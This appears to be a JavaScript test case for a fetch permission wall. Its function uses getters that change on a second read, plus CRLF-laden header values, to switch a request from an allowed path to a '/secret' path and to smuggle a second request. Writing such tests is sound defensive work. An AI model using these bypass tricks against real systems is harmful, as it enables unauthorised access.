// The options of a request are read more than once.
// after: connect
// source: own
// granted: fetch
// control: wall
async function attack({ site }) {
  let turn = 0;
  const options = { get method() { return turn++ ? 'GET /x HTTP/1.1\r\n\r\n' : 'GET'; }, get headers() { return new Proxy({}, { ownKeys: () => ['host'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }), get: () => 'x\r\ny' }); } };
  try { await fetch({ toString: () => (turn++ ? `${site}/secret` : `${site}/granted/note`) }, options); } catch {}
  try { await fetch(new URL(`${site}/secret`), options); } catch {}
  return { n: 0 };
}
